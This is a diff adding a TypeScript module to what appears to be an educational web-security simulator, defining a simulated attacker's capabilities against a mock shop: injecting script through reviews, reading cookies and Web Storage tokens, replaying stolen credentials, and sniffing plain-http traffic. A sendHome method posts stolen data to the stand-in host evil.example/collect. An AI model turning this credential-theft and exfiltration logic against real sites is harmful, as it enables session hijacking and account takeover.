@@ -1,0 +1,270 @@
+/** What an attacker can do in an attack: with a program at home always, and with what was granted. Not: what a given attack does (attacks/). */
+import type { Fields, HttpRequest, HttpResponse } from '#http/message';
+import type { Attack, Grant } from './attack';
+import { loadImage, navigate, setTab, submitForm, tabAt, type Place } from './browser';
+import { issueAccessToken, type Special } from './access-token';
+import { bearerFields } from './bearer';
+import type { Mode, Page } from './mode';
+import { openPage } from './page';
+import { allowsInlineScript } from './page-policy';
+import { policyOf } from './defences';
+import type { TabId } from './party';
+import { json } from './response';
+import type { Setup } from './setup';
+import { ATTACKER_NAME, ATTACKER_PASSWORD, ORIGIN, USERNAME } from './shop';
+import type { Stage } from './stage';
+import type { ServerState } from './world';
+
+/** A credential as the attacker holds it. */
+export type Stolen =
+  | { readonly type: 'cookie'; readonly name: string; readonly value: string }
+  | { readonly type: 'token'; readonly value: string };
+
+/** A page of the attacker's, open in the victim's browser. */
+interface OwnPage extends Pick<Page, 'send'> {
+  form(method: 'GET' | 'POST', url: string, values: Readonly<Record<string, string>>): Promise<void>;
+  image(url: string): Promise<void>;
+}
+
+/** Script of the attacker's in a page of the shop. */
+export interface InjectedPage extends Page {
+  /** Everything that `document.cookie` shows and Web Storage holds. */
+  readStorage(): Stolen[];
+  /** Sends text to the attacker's server. */
+  sendHome(text: string): Promise<void>;
+}
+
+export interface Hands {
+  readonly mode: Mode;
+  readonly setup: Setup;
+  /** Notes what the attacker does at home, without a request. */
+  note(says: string): void;
+  /** A request by a program, without a browser's rules. @param url absolute, or a path at the shop */
+  send(method: string, url: string, fields?: Fields, content?: string): Promise<HttpResponse>;
+  /** A request with stolen credentials, each put where the shop looks for it. */
+  replay(stolen: readonly Stolen[], method: string, path: string, content?: string): Promise<HttpResponse>;
+  /** What the victim or the shop's people do meanwhile. @param id of an act */
+  meanwhile(id: string): Promise<void>;
+  wait(seconds: number): void;
+  /** Grant: markup in a page of the shop. @returns the page its script runs in; undefined when it does not run */
+  inject(markup: string): Promise<InjectedPage | undefined>;
+  /** Grant: a page that the victim opens. */
+  ownPage(): Promise<OwnPage>;
+  /** Grant: script on a sibling host. */
+  siblingPage(): Page;
+  /** Grant: the network. The victim follows a link to the shop by http. @returns the request, as it went over the network */
+  listen(): Promise<HttpRequest | undefined>;
+  /** Grant: a log of requests. @returns the last one by the victim's page that carried credentials */
+  log(): HttpRequest | undefined;
+  /** Grant: a backup of the database. */
+  backup(): ServerState;
+  /** Grant: a copy of the browser. */
+  copy(): Stolen[];
+  /** Grant: an account. @returns the attacker's own credentials at the shop */
+  ownAccount(): Promise<Stolen[]>;
+  /** Grant: a token for another use. @returns one of the victim's, issued like an access token but for what is special */
+  otherToken(special: Special): Promise<string>;
+}
+
+const VICTIM_SHOP: Place = { userAgent: 'victim', tab: 'shop' };
+
+const fieldsOf = (stolen: readonly Stolen[]): Fields => {
+  const cookies = stolen.flatMap((each) => (each.type === 'cookie' ? [`${each.name}=${each.value}`] : []));
+  const token = stolen.find((each) => each.type === 'token')?.value;
+  return [...bearerFields(token), ...(cookies.length > 0 ? [['Cookie', cookies.join('; ')] as const] : [])];
+};
+
+/** A JWT, or a value that script kept under a name that says so. */
+const looksLikeToken = (value: string): boolean => /^[\w-]+\.[\w-]+\.[\w-]*$/u.test(value);
+
+const tokensIn = (values: Iterable<string>): Stolen[] =>
+  [...values].filter((value) => looksLikeToken(value)).map((value) => ({ type: 'token', value }));
+
+/** `a=1; b=2` as cookies. */
+export const cookiesIn = (text: string): Stolen[] =>
+  text
+    .split('; ')
+    .filter((pair) => pair.includes('='))
+    .map((pair) => ({
+      type: 'cookie',
+      name: pair.slice(0, pair.indexOf('=')),
+      value: pair.slice(pair.indexOf('=') + 1),
+    }));
+
+/**
+ * The hands for one attack.
+ * @param meanwhile does an act of the victim's or the shop's people
+ * @throws Error when the attack reaches for what it was not granted, from the method that would give it
+ */
+export const giveHands = (attack: Attack, stage: Stage, meanwhile: (id: string) => Promise<void>): Hands => {
+  const { setup, mode } = stage;
+  const need = (grant: Grant) => {
+    if (!attack.grants.includes(grant)) throw new Error(`${attack.id} was not granted ${grant}.`);
+  };
+
+  const send: Hands['send'] = (method, path, fields = [], content = '') => {
+    const url = new URL(path, ORIGIN).href;
+    const length: Fields = method === 'GET' ? [] : [['Content-Length', String(content.length)]];
+    const request = {
+      method,
+      url,
+      fields: [['Host', new URL(url).host], ...length, ...fields] as Fields,
+      content,
+    };
+    return stage.exchange(request, { by: { type: 'tool', userAgent: 'attacker' }, initiator: 'tool' });
+  };
+  const jsonFields: Fields = [['Content-Type', 'application/json']];
+
+  const openAt = async (tab: TabId): Promise<Place> => {
+    const place: Place = { userAgent: 'victim', tab };
+    setTab(stage, place, {});
+    return place;
+  };
+
+  return {
+    mode,
+    setup,
+    note: (says) => {
+      stage.add({ type: 'attacker', says });
+    },
+    send,
+    replay: (stolen, method, path, content) =>
+      send(method, path, [...(content === undefined ? [] : jsonFields), ...fieldsOf(stolen)], content),
+    meanwhile,
+    wait: (seconds) => {
+      stage.wait(seconds);
+    },
+    inject: async (markup) => {
+      need('markup in a page of the shop');
+      await send('POST', '/reviews', [['Content-Type', 'text/plain']], markup);
+      // What the page's own variables held is loaded anew by the shop's script; the tab is the one that is logged in.
+      const { memory } = tabAt(stage, VICTIM_SHOP);
+      const response = await navigate(stage, VICTIM_SHOP, `${ORIGIN}/product`, ORIGIN);
+      setTab(stage, VICTIM_SHOP, { memory });
+      if (!response.content.includes(markup)) {
+        stage.add({ type: 'blocked', says: 'The page shows the markup as text, so nothing of it runs.' });
+        return undefined;
+      }
+      if (!allowsInlineScript(tabAt(stage, VICTIM_SHOP).policy)) {
+        stage.add({
+          type: 'blocked',
+          says: 'The page’s Content-Security-Policy lets no script run that stands in its markup.',
+        });
+        return undefined;
+      }
+      const page = openPage(stage, VICTIM_SHOP);
+      return {
+        ...page,
+        readStorage: () => {
+          const agent = stage.world().userAgents.victim;
+          const shown = page.read('document.cookie', '', 'The injected script reads document.cookie.');
+          const held = agent.localStorage[ORIGIN] ?? {};
+          const local = Object.keys(held).map((name) =>
+            page.read('localStorage', name, 'The injected script reads localStorage.'),
+          );
+          const session = Object.keys(tabAt(stage, VICTIM_SHOP).sessionStorage).map((name) =>
+            page.read('sessionStorage', name, 'The injected script reads sessionStorage.'),
+          );
+          const values = [...local, ...session].filter((value) => value !== undefined);
+          return [...cookiesIn(shown ?? ''), ...tokensIn(values)];
+        },
+        sendHome: async (text) => {
+          await page.send('POST', 'https://evil.example/collect', [], text, {
+            mode: 'no-cors',
+            credentials: 'omit',
+          });
+        },
+      };
+    },
+    ownPage: async () => {
+      need('a page that the victim opens');
+      const place = await openAt('evil');
+      const page = openPage(stage, place);
+      return {
+        send: page.send,
+        form: (method, url, values) => submitForm(stage, place, method, url, values),
+        image: (url) => loadImage(stage, place, url),
+      };
+    },
+    siblingPage: () => {
+      need('script on a sibling host');
+      return openPage(stage, { userAgent: 'victim', tab: 'photos' });
+    },
+    listen: async () => {
+      need('the network');
+      await navigate(stage, { userAgent: 'victim', tab: 'second' }, ORIGIN.replace('https:', 'http:'));
+      const last = stage.steps.at(-1)?.event;
+      return last?.type === 'exchange' ? last.request : undefined;
+    },
+    log: () => {
+      need('a log of requests');
+      const requests = [...stage.before, ...stage.steps].flatMap(({ event }) =>
+        event.type === 'exchange' && event.by.type === 'page' && event.by.userAgent === 'victim'
+          ? [event.request]
+          : [],
+      );
+      return requests.findLast(({ fields }) =>
+        fields.some(([name]) => name === 'Cookie' || name === 'Authorization'),
+      );
+    },
+    backup: () => {
+      need('a backup of the database');
+      return stage.world().server;
+    },
+    copy: () => {
+      need('a copy of the browser');
+      const { jar, localStorage } = stage.world().userAgents.victim;
+      const { memory, sessionStorage } = tabAt(stage, VICTIM_SHOP);
+      const cookies = jar
+        .filter(({ domain }) => domain === new URL(ORIGIN).host)
+        .map(({ name, value }): Stolen => ({ type: 'cookie', name, value }));
+      return [
+        ...cookies,
+        ...tokensIn(Object.values(memory)),
+        ...tokensIn(Object.values(localStorage[ORIGIN] ?? {})),
+        ...tokensIn(Object.values(sessionStorage)),
+      ];
+    },
+    ownAccount: async () => {
+      need('an account');
+      const page = openPage(stage, { userAgent: 'attacker', tab: 'shop' });
+      await mode.script.logIn(page, ATTACKER_NAME, ATTACKER_PASSWORD);
+      const { jar, localStorage } = stage.world().userAgents.attacker;
+      const { memory, sessionStorage } = tabAt(stage, { userAgent: 'attacker', tab: 'shop' });
+      return [
+        ...jar.map(({ name, value }): Stolen => ({ type: 'cookie', name, value })),
+        ...tokensIn(Object.values(memory)),
+        ...tokensIn(Object.values(localStorage[ORIGIN] ?? {})),
+        ...tokensIn(Object.values(sessionStorage)),
+      ];
+    },
+    otherToken: async (special) => {
+      need('a token for another use');
+      const { server, clock, random } = stage.world();
+      const user = server.users.find(({ name }) => name === USERNAME) ?? { name: USERNAME, role: '' };
+      const issued = await issueAccessToken(
+        user,
+        { method: 'POST', url: ORIGIN, fields: [], content: '' },
+        {
+          setup,
+          policy: policyOf(setup),
+          mode,
+          origin: ORIGIN,
+          now: clock,
+          state: server,
+          random,
+          cache: {},
+          query: () => undefined,
+          send: async () => json({}),
+        },
+        15 * 60,
+        special,
+      );
+      stage.setServer(
+        `The shop issues ${special.typ === undefined ? 'a token' : `a token of the type ${special.typ}`} for ${special.audience ?? 'its own API'}, and it comes into the attacker’s hands.`,
+        () => issued.state,
+      );
+      return issued.token;
+    },
+  };
+};
